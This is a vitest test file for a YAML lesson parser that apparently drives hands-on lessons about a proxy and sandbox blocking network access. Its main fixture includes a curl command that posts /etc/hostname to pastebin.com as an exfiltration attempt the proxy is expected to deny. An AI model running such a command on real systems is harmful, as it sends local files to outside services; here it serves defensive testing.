import { describe, expect, it } from "vitest";
import { type LessonIssue, parseLesson } from "./parse";

const GOOD = `lesson: 1
title: Why the proxy must be the TLS client
summary: One paragraph.
policy: { version: 1, hosts: [{ host: example.com }] }
setup: [ "mkdir -p /tmp/demo" ]
steps:
  - title: Send a file to pastebin
    text: Markdown.
    type: task
    run: curl -sS --data @/etc/hostname https://pastebin.com/api
    expect:
      - verdict: host-not-allowed
        by: proxy
        target: pastebin.com
      - exit: nonzero
      - output: "403"
      - kernel: EACCES
      - dns: example.com
      - absent: wire-frame
    hint: A hint.
    explain: An explanation.
    solve: curl -sS https://pastebin.com/raw/x
`;

function issues(text: string): LessonIssue[] {
  const parsed = parseLesson(text);
  if (parsed.ok) throw new Error("expected the lesson to be refused");
  expect(parsed.code).toBe("lesson-invalid");
  return parsed.issues;
}

/** A one-step lesson whose step (or item) has the given YAML lines in place of the defaults. */
function withStep(stepLines: string): string {
  return `lesson: 1\ntitle: T\nsteps:\n  - title: S\n${stepLines
    .split("\n")
    .map((l) => `    ${l}`)
    .join("\n")}\n`;
}
const withItem = (itemLines: string) =>
  withStep(
    `run: "true"\nexpect:\n${itemLines
      .split("\n")
      .map((l, i) => (i === 0 ? `  - ${l}` : `    ${l}`))
      .join("\n")}`,
  );

describe("the lesson schema", () => {
  it("reads every field of the format", () => {
    const parsed = parseLesson(GOOD);
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    const { lesson } = parsed;
    expect(lesson.title).toBe("Why the proxy must be the TLS client");
    expect(lesson.summary).toBe("One paragraph.");
    expect(lesson.policy?.hosts[0]?.host).toBe("example.com");
    expect(lesson.setup).toEqual(["mkdir -p /tmp/demo"]);
    const step = lesson.steps[0];
    expect(step).toMatchObject({
      title: "Send a file to pastebin",
      text: "Markdown.",
      type: "task",
      hint: "A hint.",
      explain: "An explanation.",
    });
    expect(step?.solve).toBe("curl -sS https://pastebin.com/raw/x");
    expect(step?.expect).toEqual([
      { verdict: "host-not-allowed", by: "proxy", target: "pastebin.com" },
      { exit: "nonzero" },
      { output: "403" },
      { kernel: "EACCES" },
      { dns: "example.com" },
      { absent: "wire.frame" },
    ]);
  });

  it("reads exit 0 and a numbered exit status", () => {
    const parsed = parseLesson(withStep(`run: "true"\nexpect:\n  - exit: 0\n  - exit: 130`));
    expect(parsed.ok && parsed.lesson.steps[0]?.expect).toEqual([{ exit: 0 }, { exit: 130 }]);
  });

  it("reads a demo step with its run, and an absent kind written with a dot", () => {
    const parsed = parseLesson(withStep(`type: demo\nrun: echo hi\nexpect:\n  - absent: proxy.decision`));
    expect(parsed.ok && parsed.lesson.steps[0]).toMatchObject({ type: "demo", expect: [{ absent: "proxy.decision" }] });
  });

  // Every bad input, with the field it names, where it is and the message.
  const BAD: { name: string; text: string; field: string; line: number; column: number; message: RegExp }[] = [
    { name: "a wrong format version", text: "lesson: 2\ntitle: T\nsteps: []\n", field: "lesson", line: 1, column: 9, message: /must be 1/ },
    {
      name: "a missing title",
      text: `lesson: 1\nsteps:\n  - title: S\n    run: "true"\n    expect: [{ exit: 0 }]\n`,
      field: "title",
      line: 1,
      column: 1,
      message: /^required$/,
    },
    {
      name: "an empty title",
      text: `lesson: 1\ntitle: ""\nsteps:\n  - title: S\n    run: "true"\n    expect: [{ exit: 0 }]\n`,
      field: "title",
      line: 2,
      column: 8,
      message: /must not be empty/,
    },
    { name: "no steps", text: "lesson: 1\ntitle: T\nsteps: []\n", field: "steps", line: 3, column: 8, message: /at least one step/ },
    {
      name: "an unknown top-level field",
      text: `lesson: 1\ntitle: T\nauthor: me\nsteps:\n  - title: S\n    run: "true"\n    expect: [{ exit: 0 }]\n`,
      field: "author",
      line: 3,
      column: 1,
      message: /unknown field "author"/,
    },
    {
      name: "an unknown step field",
      text: withStep(`run: "true"\nverify: ./check.sh\nexpect: [{ exit: 0 }]`),
      field: "steps[0].verify",
      line: 6,
      column: 5,
      message: /unknown field "verify"/,
    },
    {
      name: "an unknown item field",
      text: withItem("exit: 0\nstatus: 1"),
      field: "steps[0].expect[0].status",
      line: 8,
      column: 9,
      message: /unknown field "status"/,
    },
    {
      name: "a bad step type",
      text: withStep(`type: quiz\nrun: "true"\nexpect: [{ exit: 0 }]`),
      field: "steps[0].type",
      line: 5,
      column: 11,
      message: /"task" or "demo"/,
    },
    {
      name: "a demo step without run",
      text: withStep(`type: demo\nsolve: "true"\nexpect: [{ exit: 0 }]`),
      field: "steps[0].run",
      line: 4,
      column: 5,
      message: /demo step needs the command/,
    },
    {
      name: "a task step with nothing to type",
      text: withStep(`expect: [{ exit: 0 }]`),
      field: "steps[0].solve",
      line: 4,
      column: 5,
      message: /needs a `run` or a `solve`/,
    },
    {
      name: "a step expecting nothing",
      text: withStep(`run: "true"\nexpect: []`),
      field: "steps[0].expect",
      line: 6,
      column: 13,
      message: /at least one item/,
    },
    {
      name: "an unknown verdict code",
      text: withItem("verdict: host-denied"),
      field: "steps[0].expect[0].verdict",
      line: 7,
      column: 18,
      message: /unknown verdict code "host-denied"/,
    },
    {
      name: "an unknown decider",
      text: withItem("verdict: host-not-allowed\nby: firewall"),
      field: "steps[0].expect[0].by",
      line: 8,
      column: 13,
      message: /unknown decider "firewall"/,
    },
    {
      name: "a target without a verdict",
      text: withItem("exit: 1\ntarget: example.com"),
      field: "steps[0].expect[0].target",
      line: 8,
      column: 17,
      message: /qualifies a verdict item only/,
    },
    {
      name: "an unknown errno name",
      text: withItem("kernel: EFOO"),
      field: "steps[0].expect[0].kernel",
      line: 7,
      column: 17,
      message: /unknown kernel result "EFOO" \(one of ok, EACCES/,
    },
    {
      name: "an unknown event kind",
      text: withItem("absent: wire-packet"),
      field: "steps[0].expect[0].absent",
      line: 7,
      column: 17,
      message: /unknown event kind "wire-packet"/,
    },
    {
      name: "a regex that does not compile",
      text: withItem(`output: "(unclosed"`),
      field: "steps[0].expect[0].output",
      line: 7,
      column: 17,
      message: /output-pattern-unsupported: .*missing closing \)/,
    },
    {
      name: "a backreference, which the linear-time judge cannot run",
      text: withItem(`output: "(a)\\\\1"`),
      field: "steps[0].expect[0].output",
      line: 7,
      column: 17,
      message: /output-pattern-unsupported: not a pattern the linear-time judge .*\\1/,
    },
    {
      name: "a lookahead, which the linear-time judge cannot run",
      text: withItem(`output: "a(?=b)"`),
      field: "steps[0].expect[0].output",
      line: 7,
      column: 17,
      message: /output-pattern-unsupported: .*\(\?=/,
    },
    {
      name: "a pattern longer than the judge's cap",
      text: withItem(`output: "${"a".repeat(1001)}"`),
      field: "steps[0].expect[0].output",
      line: 7,
      column: 17,
      message: /output-pattern-too-large: the pattern is 1001 characters/,
    },
    {
      name: "an exit status out of range",
      text: withItem("exit: 300"),
      field: "steps[0].expect[0].exit",
      line: 7,
      column: 15,
      message: /0, "nonzero" or an exit status/,
    },
    {
      name: "an exit word other than nonzero",
      text: withItem("exit: failure"),
      field: "steps[0].expect[0].exit",
      line: 7,
      column: 15,
      message: /0, "nonzero" or an exit status/,
    },
    {
      name: "an item naming two things",
      text: withItem("exit: 0\noutput: ok"),
      field: "steps[0].expect[0]",
      line: 7,
      column: 9,
      message: /exactly one of .* \(this one has exit and output\)/,
    },
    {
      name: "an item naming nothing",
      text: withItem("by: proxy"),
      field: "steps[0].expect[0]",
      line: 7,
      column: 9,
      message: /an item names one of verdict/,
    },
    {
      name: "an empty dns name",
      text: withItem(`dns: ""`),
      field: "steps[0].expect[0].dns",
      line: 7,
      column: 14,
      message: /must not be empty/,
    },
    {
      name: "an invalid policy",
      text: `lesson: 1\ntitle: T\npolicy: { version: 1, hosts: [{ host: 93.184.216.34 }] }\nsteps:\n  - title: S\n    run: "true"\n    expect: [{ exit: 0 }]\n`,
      field: "policy.hosts[0].host",
      line: 3,
      column: 39,
      message: /IP address/,
    },
    {
      name: "a setup command that is empty",
      text: `lesson: 1\ntitle: T\nsetup: [""]\nsteps:\n  - title: S\n    run: "true"\n    expect: [{ exit: 0 }]\n`,
      field: "setup[0]",
      line: 3,
      column: 9,
      message: /must not be empty/,
    },
    { name: "a YAML syntax error", text: "lesson: 1\ntitle: [unclosed\n", field: "", line: 3, column: 1, message: /^YAML: / },
    { name: "a duplicate key", text: "lesson: 1\nlesson: 1\ntitle: T\n", field: "", line: 2, column: 1, message: /^YAML: .*unique/ },
    {
      name: "a document that is not a mapping",
      text: "- just a list\n",
      field: "",
      line: 1,
      column: 1,
      message: /a lesson is a YAML mapping/,
    },
  ];
  for (const bad of BAD)
    it(`refuses ${bad.name}, naming the field, its line and column`, () => {
      const found = issues(bad.text);
      const issue = found.find((i) => i.field === bad.field);
      expect(issue, JSON.stringify(found)).toBeDefined();
      expect(issue?.message).toMatch(bad.message);
      expect({ line: issue?.line, column: issue?.column }).toEqual({ line: bad.line, column: bad.column });
    });

  it("reports every issue at once, in the order they appear", () => {
    const found = issues(
      `lesson: 1\ntitle: T\nsteps:\n  - title: S\n    run: "true"\n    expect:\n      - verdict: nope\n      - kernel: EFOO\n`,
    );
    expect(found.map((i) => i.field)).toEqual(["steps[0].expect[0].verdict", "steps[0].expect[1].kernel"]);
  });
});
